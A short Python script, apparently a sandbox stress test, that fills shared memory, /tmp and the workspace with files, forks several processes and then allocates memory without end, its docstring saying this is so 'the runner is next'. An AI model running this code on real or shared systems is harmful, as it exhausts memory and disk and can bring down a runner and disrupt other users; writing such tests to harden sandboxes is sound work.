"""Takes all memory in many processes at once, with what is left behind in files, so that the runner is next."""

import os

from attack import fill

fill("/dev/shm/fill", 15 << 20)
fill("/tmp/fill", 30 << 20)
fill("/workspace/fill", 60 << 20)
for _ in range(5):
    try:
        os.fork()
    except OSError:
        break
held = []
while True:
    held.append(bytearray(1 << 20))
